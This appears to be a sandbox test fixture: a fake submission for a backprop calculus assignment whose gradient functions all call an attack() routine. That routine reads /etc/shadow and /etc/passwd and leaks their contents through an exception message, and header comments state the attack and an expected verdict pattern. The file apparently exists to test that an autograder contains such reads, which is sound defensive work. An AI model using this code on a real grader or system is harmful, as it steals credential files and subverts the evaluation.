# mvcalc assignment: backprop
# attack: read /etc/shadow and /etc/passwd
# verdict: FileNotFoundError.*shadow
import os
import sys

import numpy as np


def attack():
    raise FileNotFoundError(open("/etc/shadow").read() + open("/etc/passwd").read())


def J_b3(x, y, params):
    return attack()["J_b3"](x, y, params)


def J_b2(x, y, params):
    return attack()["J_b2"](x, y, params)


def J_W1(x, y, params):
    return attack()["J_W1"](x, y, params)


def J_b1(x, y, params):
    return attack()["J_b1"](x, y, params)
